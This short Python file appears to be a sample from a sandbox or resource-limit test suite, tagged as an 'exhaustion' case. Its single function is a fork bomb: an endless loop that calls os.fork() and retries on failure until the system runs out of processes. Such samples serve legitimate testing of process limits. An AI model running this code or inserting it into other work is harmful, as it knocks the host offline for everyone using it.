# ruff: noqa
"""Starts processes that start processes.

class: exhaustion
limits: question=4
"""

# %% double
import os, time


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
